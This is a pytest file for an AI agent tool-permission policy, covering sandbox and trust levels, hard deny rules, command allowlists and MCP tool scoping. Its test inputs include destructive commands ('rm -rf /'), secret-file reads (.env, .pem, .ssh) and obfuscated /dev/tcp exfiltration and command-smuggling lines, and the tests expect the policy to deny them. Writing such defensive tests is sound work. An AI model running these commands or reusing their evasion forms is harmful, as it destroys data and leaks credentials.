"""The policy: levels, tools, lists of agents, file routes, and what it says about itself."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parachute.security.permissions.actions import ACTION_BY_NAME, ACTIONS
from parachute.security.permissions.grants import Grant
from parachute.security.permissions.models import Resource
from tests.support.errors import raises

from .conftest import World

ALWAYS = ["WebSearch", "Task", "Agent", "TodoWrite", "AskUserQuestion", "ToolSearch"]
GUARDED: dict[str, dict[str, object]] = {
    "Read": {"file_path": "notes.md"},
    "Glob": {"pattern": "*.md"},
    "Grep": {"pattern": "x"},
    "LS": {"path": "."},
    "Write": {"file_path": "notes.md", "content": "x"},
    "Edit": {"file_path": "notes.md", "old_string": "a", "new_string": "b"},
    "MultiEdit": {"file_path": "notes.md", "edits": []},
    "NotebookEdit": {"notebook_path": "n.ipynb", "new_source": "x"},
    "NotebookRead": {"notebook_path": "n.ipynb"},
    "Bash": {"command": "ls"},
    "Monitor": {"command": "ls"},
}


def test_every_guarded_tool_of_the_table_is_tested() -> None:
    assert set(GUARDED) == {action.name for action in ACTIONS if action.resource is not Resource.NONE}
    assert all(action.also_requires in {None, *ACTION_BY_NAME} for action in ACTIONS)
    assert len(ACTION_BY_NAME) == len(ACTIONS)


def test_who_is_asked_and_who_is_not(world: World) -> None:
    for tool in GUARDED:
        confined = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
        assert confined.decide(tool, GUARDED[tool]).rule == "sandbox"
        assert world.policy().decide(tool, GUARDED[tool]).rule == "trust-mode"
        decision = world.policy(trust_mode=False).decide(tool, GUARDED[tool])
        assert (decision.effect, decision.rule) == ("ask", "needs-grant"), tool


def test_tools_that_are_always_allowed(world: World) -> None:
    for tool in ALWAYS:
        for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
            assert policy.decide(tool, {}).effect == "allow"


def test_a_tool_that_nobody_knows(world: World) -> None:
    assert world.policy(trust_mode=False).decide("Launch", {}).effect == "ask"
    assert world.policy().decide("Launch", {}).effect == "deny"
    assert world.policy("sandboxed").decide("Launch", {}).effect == "deny"
    assert world.policy().decide("bash", {"command": "sudo x"}).effect == "deny"


@pytest.mark.parametrize("level", ["sandboxed", "direct"])
@pytest.mark.parametrize("trust", [True, False])
@pytest.mark.parametrize(
    ("tool", "fields"),
    [
        ("Bash", {"command": "sudo ls"}),
        ("Bash", {"command": "cat .env"}),
        ("Monitor", {"command": "rm -rf /"}),
        ("Read", {"file_path": ".env"}),
        ("Write", {"file_path": ".parachute/x", "content": ""}),
        ("Glob", {"pattern": "**/.env*"}),
        ("Glob", {"pattern": "**/*.pem"}),
        ("Grep", {"pattern": "x", "glob": "*.{md,key}"}),
        ("Grep", {"pattern": "x", "glob": "foo.pem,a.md"}),
        ("Grep", {"pattern": "x", "glob": "{a,.env.staging}"}),
        ("Grep", {"pattern": "x", "glob": "*.{k,x}{ey,y}"}),
        ("Glob", {"pattern": "Projects/.env.staging"}),
        ("NotebookEdit", {"notebook_path": ".ssh/x.ipynb", "new_source": ""}),
    ],
)
def test_hard_rules_hold_at_every_level(
    shared_world: World, level: str, trust: bool, tool: str, fields: dict[str, object]
) -> None:
    grants = tuple(map(Grant.parse, ("Edit(/**)", "Bash(sudo:*)", "Bash(cat:*)")))
    assert shared_world.policy(level, trust_mode=trust, grants=grants).decide(tool, fields).effect == "deny"


def test_searches_that_only_leave_secrets_out_are_fine(world: World) -> None:
    policy = world.policy()
    assert policy.decide("Grep", {"pattern": "x", "glob": "!.env"}).effect == "allow"
    assert policy.decide("Grep", {"pattern": "x", "glob": "*.{md,txt}", "path": None}).effect == "allow"
    assert policy.decide("Glob", {"pattern": "**/*"}).effect == "allow"


def test_malformed_calls_are_denied_with_a_sentence(world: World) -> None:
    for tool, fields in (
        ("Read", {}),
        ("Read", {"file_path": 3}),
        ("Read", {"file_path": None}),
        ("Read", {"file_path": ""}),
        ("Read", {"path": "notes.md"}),
        ("Write", {"file_path": "a"}),
        ("Edit", {"file_path": "a", "old_string": "b"}),
        ("MultiEdit", {"file_path": "a", "edits": "b"}),
        ("Glob", {"path": "."}),
        ("Glob", {"pattern": ""}),
        ("Grep", {"pattern": ["x"]}),
        ("Grep", {"pattern": "x", "glob": 1}),
        ("Bash", {}),
        ("Bash", {"command": ["ls"]}),
        ("Bash", {"command": "  "}),
        ("WebFetch", {}),
        ("WebFetch", {"url": "file:///etc/passwd"}),
        ("Bash", None),
        ("Bash", "ls"),
        (None, {}),
        (7, {}),
    ):
        for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
            decision = policy.decide(tool, fields)  # type: ignore[arg-type]
            assert decision.effect == "deny", (tool, fields)
            assert decision.rule != "failure", (tool, fields)
            assert decision.reason.endswith("."), (tool, fields)


@given(
    tool=st.one_of(st.sampled_from([*GUARDED, *ALWAYS]), st.text(max_size=8)),
    fields=st.dictionaries(
        st.sampled_from(
            ["file_path", "path", "pattern", "glob", "command", "content", "url", "notebook_path", "new_source"]
        ),
        st.one_of(
            st.text(max_size=20), st.integers(), st.none(), st.sampled_from(["..", "*", "/", "[", "{", "\0", "~"])
        ),
    ),
)
def test_every_call_gets_an_answer(shared_world: World, tool: str, fields: dict[str, object]) -> None:
    policy = shared_world.policy(trust_mode=False)
    decision = policy.decide(tool, fields)
    assert decision.rule != "failure"
    if decision.effect == "ask":
        policy.suggested_grants(tool, fields)


def test_an_agents_list_of_commands(shared_world: World) -> None:
    for line, allowed in (
        ("git status", True),
        ("/usr/bin/git status", True),
        ("npm test && git log", True),
        ("npm test && git push", False),
        ("cd Daily && npm test && echo done", True),
        ("cd Daily && git add . && echo done", False),
        ("bash -c 'git status | head'", False),
        ("bash -c 'git status'", True),
        ("timeout 5 npm test", True),
        ("LANG=C git log", True),
        ("for f in a b; do git add $f; done", False),
        ("GIT push", False),
        ("curl x", False),
        ("git status; curl x", False),
        ("git $(curl x)", False),
        ("find . -exec git {} \\;", False),
        ("bash script.sh", False),
        ("./git status", False),
        ("/tmp/git status", False),
        ("PATH=/tmp git status", False),
        ("PATH=/tmp; git status", False),
        ("unshare git status", False),
        ("git() { curl x; }; git", False),
        ("git log > notes.md 2>&1", True),
        ("git log > /dev/null", True),
        ("git log > /dev/tcp/example.org/80", False),
        ("git log >& /dev/udp/192.0.2.1/53", False),
        ("git log 2> '/dev/t'cp/example.org/80", False),
        ("git log < /dev/tcp/example.org/80", False),
        ("git log <> /dev/tcp/example.org/80", False),
        ("> /dev/tcp/example.org/80", False),
        ("exec 3<> /dev/tcp/example.org/80; git log >&3", False),
        ("while read line; do git add x; done < /dev/tcp/example.org/80", False),
        ("x=/dev/tcp/example.org/80; git log > $x", False),
        ("git log > /dev/${x:-tcp}/example.org/80", False),
        ("git log > $(echo /dev/tcp/example.org/80)", False),
    ):
        for level in ("direct", "sandboxed"):
            policy = shared_world.policy(level, allowed_commands=("git", "npm"))
            assert policy.decide("Bash", {"command": line}).effect == ("allow" if allowed else "deny")


def test_an_empty_list_of_commands_allows_none(world: World) -> None:
    policy = world.policy(allowed_commands=())
    assert policy.decide("Bash", {"command": "ls"}).rule == "agent-commands"
    assert policy.decide("Bash", {"command": "true"}).effect == "deny"


def test_an_agents_list_of_tools(world: World) -> None:
    policy = world.policy(allowed_tools=("Read", "Edit", "Task"))
    for tool, fields in (
        ("Read", GUARDED["Read"]),
        ("Edit", GUARDED["Edit"]),
        ("Agent", {}),
    ):
        assert policy.decide(tool, fields).effect == "allow"
    for tool, fields in (("Bash", GUARDED["Bash"]), ("WebSearch", {})):
        assert policy.decide(tool, fields).rule == "agent-tools"
    assert world.policy(allowed_tools=("Edit",)).decide("Edit", GUARDED["Edit"]).effect == "deny"
    assert world.policy(allowed_tools=()).decide("TodoWrite", {}).effect == "deny"


def test_who_may_not_run_commands_is_not_asked_about_them(world: World) -> None:
    policy = world.policy(trust_mode=False, allowed_tools=("Read",))
    for line in ("$X y", "git status", "cd a; cd b; cd c; cd d; cd e; cd f; x"):
        assert policy.decide("Bash", {"command": line}).rule == "agent-tools"


def test_where_a_line_may_be_is_not_guessed(world: World) -> None:
    for line in ("cd a; cd b; cd c; cd d; cd e; cd f; x", "cd /; (cd tmp); cd x; rm -rf *", "cd .. && rm -rf *"):
        assert world.policy().decide("Bash", {"command": line}).rule == "unknown-command"
        assert world.policy(trust_mode=False).decide("Bash", {"command": line}).effect == "ask"
        assert world.policy("sandboxed").decide("Bash", {"command": line}).effect == "allow"


def test_tools_of_servers_are_those_of_the_session_and_no_others(world: World) -> None:
    search = "mcp__parachute__brain_search"
    for level, fields in (("sandboxed", {"working_directory": Path("/scratch/s")}), ("direct", {})):
        for trust in (True, False):
            policy = world.policy(level, trust_mode=trust, mcp_tools=(search,), **fields)
            assert policy.decide(search, {"query": "x"}).rule == "module-tool"
            assert policy.decide(search, {"query": "x"}).effect == "allow"
            for other in ("mcp__", "mcp__parachute", f"{search}_all", "mcp__brain__search", f"{search}\n"):
                assert policy.decide(other, {}).effect == "deny"
            assert world.policy(level, trust_mode=trust, **fields).decide(search, {}).effect == "deny"
            # The names of the session are what is left of an agent's list, which has no other say in it.
            assert world.policy(level, allowed_tools=(search,), **fields).decide(search, {}).effect == "deny"


def test_an_unknown_level_or_a_relative_folder_is_an_error(world: World) -> None:
    with raises("level_invalid"):
        world.policy("full")
    with raises("folder_not_absolute"):
        world.policy(working_directory=Path("Daily"))


def test_the_description_says_what_holds(world: World) -> None:
    grant = Grant.parse("Read(/Daily/*)")
    text = world.policy(
        trust_mode=False, grants=(grant,), allowed_commands=("git",), allowed_tools=("Read",)
    ).describe()
    for fact in ("consent", "Read(/Daily/*)", "only: git", "only: Read", str(world.vault), ".env", "sudo"):
        assert fact in text
    assert "\n" not in text
    assert "sandbox" in world.policy("sandboxed").describe()
    assert "may not run commands" in world.policy(allowed_commands=()).describe()
